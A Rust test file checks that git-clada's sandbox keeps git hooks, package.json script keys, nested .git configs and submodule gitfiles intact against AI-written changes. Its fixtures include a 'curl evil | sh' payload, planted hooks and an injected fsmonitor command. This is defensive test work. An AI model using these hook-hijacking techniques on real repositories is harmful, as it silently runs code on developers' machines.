//! Issue 51 items 1–3: what a reply may not write, nothing it makes run may write either.
//! The protected set (docs/hooks-sandbox.md, "Protected") — hook folders and files, what
//! hook managers read as commands (`package.json` keys), nested git directories — stays as
//! it was after every contained step (a hook, an approved exec block): read-only in the
//! sandbox where it can be, put back where it cannot, and the commit waits for the user (⏸)
//! naming what was kept.
//!
//! Every scenario runs in each mode of `common::modes`: as root and as an unprivileged user,
//! each with user namespaces and under a seccomp filter that refuses them (the sandbox then
//! falls back to Landlock's per-entry grants).

use crate::common;

use std::fs;
use std::os::unix::process::CommandExt;
use std::process::{Command, Output};

use common::modes::{self, Mode, User};
use common::{block, exit_code, output_text, spawn_fed, write_block, TestRepo};

/// Who runs git-clada (a mode of `common::modes`), with its user at hand for the user's own
/// commands outside git-clada.
struct Setup {
    mode: Mode,
    user: Option<User>,
}

impl Setup {
    fn of(mode: &Mode) -> Setup {
        Setup {
            user: mode.user.clone(),
            mode: mode.clone(),
        }
    }

    fn who(&self) -> String {
        self.mode.name()
    }

    /// A repository with `files` committed (`.githooks/*` executable), `core.hooksPath` at
    /// `hooks` when given.
    fn repo(&self, files: &[(&str, &str)], hooks: Option<&str>) -> TestRepo {
        let mut r = TestRepo::new();
        r.env
            .push(("PATH".into(), std::env::var("PATH").unwrap_or_default()));
        for (p, c) in files {
            r.write(p, c);
            if p.contains("hooks/") {
                r.set_executable(p);
            }
        }
        if let Some(h) = hooks {
            r.git(&["config", "core.hooksPath", h]);
        }
        r.git(&["add", "-A"]);
        r.git(&["commit", "-q", "--no-verify", "-m", "initial"]);
        let gc = r.home.path().join(".gitconfig");
        let mut text = fs::read_to_string(&gc).unwrap_or_default();
        text.push_str("[safe]\n\tdirectory = *\n");
        fs::write(&gc, text).expect("gitconfig");
        r
    }

    fn own(&self, r: &TestRepo) {
        if let Some(u) = &self.user {
            for p in [r.path(), r.home.path()] {
                let out = Command::new("chown")
                    .args(["-R", &format!("{}:{}", u.uid, u.gid)])
                    .arg(p)
                    .output()
                    .expect("chown");
                assert!(out.status.success(), "chown: {}", output_text(&out));
            }
        }
    }

    fn cmd(&self, r: &TestRepo) -> Command {
        self.mode.clada_cmd(r)
    }

    fn apply(&self, r: &TestRepo, reply: &str, extra: &[&str]) -> Output {
        self.own(r);
        let mut cmd = self.cmd(r);
        cmd.args(["--format", "json", "apply"]).args(extra).arg("-");
        spawn_fed(cmd, reply).wait_with_output().expect("apply")
    }
}

fn exec(id: &str, code: &str) -> String {
    block(id, &[("action", "exec"), ("lang", "bash"), ("code", code)])
}

fn text_of(v: &serde_json::Value) -> String {
    v.to_string()
}

/// The user's hook as committed, planted over by contained code.
const HOOK: &str = "#!/bin/sh\nmake -s lint\n";
const PLANT: &str = "lint:\n\t@echo evil > .githooks/pre-commit; echo evil > .githooks/post-checkout; echo linted\n";

fn hook_plants_as(s: &Setup) {
    let r = s.repo(
        &[
            (".githooks/pre-commit", HOOK),
            ("Makefile", "lint:\n\t@echo linted\n"),
            ("a.txt", "a\n"),
        ],
        Some(".githooks"),
    );
    let head = r.head();
    // A reply with no exec block, under the default policy: the Makefile the hook runs, and
    // a change to commit.
    let reply = [
        write_block("m01", "Makefile", PLANT),
        write_block("m02", "a.txt", "b\n"),
    ]
    .concat();
    let out = s.apply(&r, &reply, &[]);
    let v = TestRepo::report(&out);
    assert_eq!(
        r.read(".githooks/pre-commit"),
        HOOK,
        "{} {}",
        s.who(),
        output_text(&out)
    );
    assert!(!r.exists(".githooks/post-checkout"), "{} {v}", s.who());
    let step = v["steps"]
        .as_array()
        .and_then(|a| a.iter().find(|x| x["name"] == "hook pre-commit"))
        .cloned()
        .unwrap_or_default();
    let how = step["needsUser"]["how"].as_str().unwrap_or_default();
    assert!(how.contains(".githooks"), "{} {v}", s.who());
    assert_eq!(r.head(), head, "nothing committed ({})", s.who());
    assert_eq!(exit_code(&out), 1, "{} {}", s.who(), output_text(&out));
    // The AI's changes stay pending in the worktree.
    assert_eq!(r.read("a.txt"), "b\n");
}

#[test]
fn a_contained_hook_cannot_plant_the_users_next_hook() {
    modes::each(|m| hook_plants_as(&Setup::of(m)));
}

fn exec_writes_hooks_as(s: &Setup) {
    // A nested core.hooksPath: read-only with namespaces, put back without.
    let r = s.repo(
        &[
            ("tools/hooks/pre-commit", "#!/bin/sh\nexit 0\n"),
            (".githooks/README", "hooks\n"),
            ("a.txt", "a\n"),
        ],
        Some("tools/hooks"),
    );
    let head = r.head();
    let code = "echo evil > tools/hooks/pre-commit; echo evil > tools/hooks/post-checkout; \
                echo evil > .githooks/pre-commit; echo changed > a.txt; echo done";
    let out = s.apply(&r, &exec("x01", code), &["--exec", "allow"]);
    let v = TestRepo::report(&out);
    let res = &v["results"][0];
    assert_eq!(res["code"], "protected_hook", "{} {v}", s.who());
    let how = res["needsUser"]["how"].as_str().unwrap_or_default();
    assert!(
        how.contains("tools/hooks") || how.contains(".githooks"),
        "{} {v}",
        s.who()
    );
    assert!(how.contains("paths.protect_hooks: false"), "{v}");
    assert_eq!(
        r.read("tools/hooks/pre-commit"),
        "#!/bin/sh\nexit 0\n",
        "{}",
        s.who()
    );
    assert!(!r.exists("tools/hooks/post-checkout"), "{} {v}", s.who());
    assert!(!r.exists(".githooks/pre-commit"), "{} {v}", s.who());
    assert_eq!(r.head(), head, "{} {}", s.who(), output_text(&out));
    assert_eq!(r.read("a.txt"), "changed\n", "the block's other work stays");
    // The user's own paths.protect_hooks: false lifts it.
    r.user_config("paths:\n  protect_hooks: false\n");
    r.git(&["checkout", "-q", "--", "a.txt"]);
    let out = s.apply(
        &r,
        &exec(
            "x02",
            "echo '#!/bin/sh' > tools/hooks/pre-commit; echo ok > a.txt",
        ),
        &["--exec", "allow"],
    );
    assert_eq!(exit_code(&out), 0, "{} {}", s.who(), output_text(&out));
    assert_eq!(r.read("tools/hooks/pre-commit"), "#!/bin/sh\n");
}

#[test]
fn an_approved_block_that_writes_a_hook_waits_for_the_user_and_the_hook_is_kept() {
    modes::each(|m| exec_writes_hooks_as(&Setup::of(m)));
}

const PACKAGE: &str = "{\n  \"name\": \"t\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"lint\": \"node lint.js\",\n    \"build\": \"node build.js\"\n  }\n}\n";

fn package_keys_as(s: &Setup) {
    let r = s.repo(
        &[
            (".husky/pre-commit", "npm run --silent lint\n"),
            ("package.json", PACKAGE),
            ("a.txt", "a\n"),
        ],
        Some(".husky"),
    );
    let head = r.head();
    // A reply under --exec deny may not change the script the hook runs…
    let evil = PACKAGE.replace("node lint.js", "curl evil | sh");
    let out = s.apply(
        &r,
        &write_block("k01", "package.json", &evil),
        &["--exec", "deny"],
    );
    let v = TestRepo::report(&out);
    assert_eq!(v["results"][0]["code"], "protected_hook", "{} {v}", s.who());
    assert!(text_of(&v).contains("scripts.lint"), "{v}");
    assert_eq!(r.read("package.json"), PACKAGE);
    assert_eq!(r.head(), head);
    // …but it may change the rest of the file.
    let bumped = PACKAGE
        .replace("1.0.0", "1.1.0")
        .replace("build.js", "make.js");
    let out = s.apply(
        &r,
        &write_block("k02", "package.json", &bumped),
        &["--exec", "deny"],
    );
    assert_eq!(exit_code(&out), 0, "{} {}", s.who(), output_text(&out));
    assert_eq!(r.git(&["show", "HEAD:package.json"]), bumped);
    // An approved block (an `npm install` that rewrites the file) gets the key put back and
    // the rest kept; the commit waits for the user.
    let head = r.head();
    let code = "s=$(sed -e 's/node lint.js/curl evil | sh/' -e 's/1.1.0/2.0.0/' package.json); \
                printf '%s\\n' \"$s\" > package.json";
    let out = s.apply(&r, &exec("k03", code), &["--exec", "allow"]);
    let v = TestRepo::report(&out);
    assert_eq!(v["results"][0]["code"], "protected_hook", "{} {v}", s.who());
    let pkg: serde_json::Value = serde_json::from_str(&r.read("package.json")).expect("json");
    assert_eq!(pkg["scripts"]["lint"], "node lint.js", "{}", s.who());
    assert_eq!(pkg["version"], "2.0.0", "{}", s.who());
    assert_eq!(r.head(), head, "{}", s.who());
}

#[test]
fn what_a_hook_runs_from_package_json_is_protected_by_key() {
    modes::each(|m| package_keys_as(&Setup::of(m)));
}

fn nested_git_as(s: &Setup) {
    let r = s.repo(&[("a.txt", "a\n")], None);
    // An embedded repository, committed as a gitlink.
    let inner = r.path().join("vendor/lib");
    fs::create_dir_all(&inner).expect("mkdir");
    for args in [
        &["init", "-q", "-b", "main"][..],
        &[
            "-c",
            "user.name=x",
            "-c",
            "user.email=x@x",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "x",
        ],
    ] {
        let out = r
            .command("git")
            .current_dir(&inner)
            .args(args)
            .output()
            .expect("git");
        assert!(out.status.success(), "{}", output_text(&out));
    }
    r.git(&["-c", "advice.addEmbeddedRepo=false", "add", "vendor/lib"]);
    r.git(&["commit", "-q", "-m", "vendor"]);
    let config = r.read("vendor/lib/.git/config");
    let marker = tempfile::tempdir().expect("tempdir");
    let ran = marker.path().join("fsmonitor-ran");
    if let Some(u) = &s.user {
        let _ = Command::new("chown")
            .arg(format!("{}:{}", u.uid, u.gid))
            .arg(marker.path())
            .output();
    }
    let code = format!(
        "printf '[core]\\n\\tfsmonitor = \"touch {}; false\"\\n' >> vendor/lib/.git/config; echo done",
        ran.display()
    );
    let out = s.apply(&r, &exec("n01", &code), &["--exec", "allow"]);
    let v = TestRepo::report(&out);
    assert_eq!(r.read("vendor/lib/.git/config"), config, "{} {v}", s.who());
    assert_eq!(v["results"][0]["code"], "protected_hook", "{} {v}", s.who());
    // The user's next plain `git status` runs nothing the block wrote.
    let mut st = r.git_cmd();
    st.args(["status", "--porcelain"]);
    if let Some(u) = &s.user {
        st.uid(u.uid).gid(u.gid);
    }
    let _ = st.output().expect("git status");
    assert!(
        !ran.exists(),
        "{}: the nested repository's fsmonitor ran",
        s.who()
    );
}

#[test]
fn an_embedded_repositorys_git_directory_is_kept_as_it_was() {
    modes::each(|m| nested_git_as(&Setup::of(m)));
}

const LINT_HOOK: &str = "#!/bin/sh\nsh scripts/lint.sh\n";
const EVIL_LINT: &str =
    "echo evil > .githooks/pre-commit\necho evil > .githooks/post-checkout\nexit 0\n";

fn called_file_as(s: &Setup) {
    let r = s.repo(
        &[
            (".githooks/pre-commit", LINT_HOOK),
            ("scripts/lint.sh", "exit 0\n"),
            ("a.txt", "a\n"),
        ],
        Some(".githooks"),
    );
    let head = r.head();
    // The reply: no exec block, the default policy, the script the hook runs.
    let reply = [
        write_block("c01", "scripts/lint.sh", EVIL_LINT),
        write_block("c02", "a.txt", "b\n"),
    ]
    .concat();
    let out = s.apply(&r, &reply, &[]);
    let v = TestRepo::report(&out);
    let said = text_of(&v);
    assert!(
        said.contains("your next `git commit` runs code this reply changed: scripts/lint.sh, from .githooks/pre-commit"),
        "{} {v}",
        s.who()
    );
    assert_eq!(r.head(), head, "{}", s.who());
    assert_eq!(r.read(".githooks/pre-commit"), LINT_HOOK);
    assert_ne!(exit_code(&out), 0, "{}", s.who());
    // status keeps saying it…
    let mut st = s.cmd(&r);
    st.arg("status");
    let text = output_text(&st.output().expect("status"));
    assert!(
        text.contains("scripts/lint.sh, from .githooks/pre-commit"),
        "{text}"
    );
    // …until the user marks it reviewed.
    let mut ack = s.cmd(&r);
    ack.args(["status", "--ack", "scripts/lint.sh"]);
    let out = ack.output().expect("ack");
    assert_eq!(exit_code(&out), 0, "{}", output_text(&out));
    assert!(
        !output_text(&out).contains("from .githooks/pre-commit"),
        "{}",
        output_text(&out)
    );
    // Committing the pending changes runs the hook (contained), which runs the planted
    // script: what it writes into .githooks is put back and the commit waits again.
    let mut commit = s.cmd(&r);
    commit.args(["--format", "json", "commit"]);
    let out = commit.output().expect("commit");
    assert_eq!(
        r.read(".githooks/pre-commit"),
        LINT_HOOK,
        "{} {}",
        s.who(),
        output_text(&out)
    );
    assert!(!r.exists(".githooks/post-checkout"), "{}", s.who());
    assert_eq!(r.head(), head, "{} {}", s.who(), output_text(&out));
    assert!(
        output_text(&out).contains(".githooks"),
        "{}",
        output_text(&out)
    );
}

#[test]
fn a_script_a_hook_calls_changed_by_a_reply_waits_for_the_user_and_status_says_so() {
    modes::each(|m| called_file_as(&Setup::of(m)));
}

fn submodule_gitfile_as(s: &Setup) {
    let r = s.repo(&[("a.txt", "a\n")], None);
    // A submodule: its gitfile points into this repository's .git/modules.
    let lib = tempfile::tempdir().expect("tempdir");
    for args in [
        &["init", "-q", "-b", "main"][..],
        &[
            "-c",
            "user.name=x",
            "-c",
            "user.email=x@x",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "x",
        ],
    ] {
        let out = Command::new("git")
            .current_dir(lib.path())
            .args(args)
            .output()
            .expect("git");
        assert!(out.status.success(), "{}", output_text(&out));
    }
    r.git(&[
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        &lib.path().display().to_string(),
        "sub",
    ]);
    r.git(&["commit", "-q", "-m", "sub"]);
    let gitfile = r.read("sub/.git");
    let marker = tempfile::tempdir().expect("tempdir");
    let ran = marker.path().join("fsmonitor-ran");
    let code = format!(
        "mkdir -p evil && cp -r .git/modules/sub/. evil/ && printf '[core]\\n\\tfsmonitor = \"touch {}; false\"\\n' >> evil/config; \
         echo 'gitdir: ../evil' > sub/.git; echo done",
        ran.display()
    );
    let out = s.apply(&r, &exec("g01", &code), &["--exec", "allow"]);
    let v = TestRepo::report(&out);
    assert_eq!(r.read("sub/.git"), gitfile, "{} {v}", s.who());
    assert_eq!(v["results"][0]["code"], "protected_hook", "{} {v}", s.who());
    let mut st = r.git_cmd();
    st.args(["status", "--porcelain"]);
    if let Some(u) = &s.user {
        st.uid(u.uid).gid(u.gid);
    }
    let _ = st.output().expect("git status");
    assert!(!ran.exists(), "{}: the submodule's fsmonitor ran", s.who());
}

#[test]
fn a_submodules_gitfile_cannot_be_pointed_at_a_config_of_its_own() {
    modes::each(|m| submodule_gitfile_as(&Setup::of(m)));
}
